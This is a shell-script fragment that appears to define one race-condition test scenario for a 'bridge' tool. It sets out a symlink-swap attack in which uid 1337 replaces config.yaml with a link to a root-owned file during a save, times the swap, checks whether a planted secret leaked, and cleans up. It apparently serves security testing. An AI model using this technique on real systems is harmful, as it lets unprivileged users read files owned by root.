# The bridge's user swaps config.yaml for a link to root's file just when the old one is saved; the roll back gives it back.
lasting=yes
fear=leak
strike() { racer_as 1337 learn $bridge config.yaml; }
swap() {
  local reads
  reads=$(awk '$1 == "opened" { n = $3 } END { print n + 0 }' "$kept/meanwhile")
  end_meanwhile
  racer_as 1337 replace-between $bridge config.yaml $canary $((reads + 2))
}
stop() { end_meanwhile; }
# Until it starts, the file is root's; then the image's script gives all of the directory to 1337.
also_gained() { grep -lsF "$(cat "$kept/secret")" $bridge/config.yaml | sed 's/^/secret: root'"'"'s lies in the directory that becomes the bridge'"'"'s: /'; }
clean() { rm -rf $bridge/.attacker-*; }
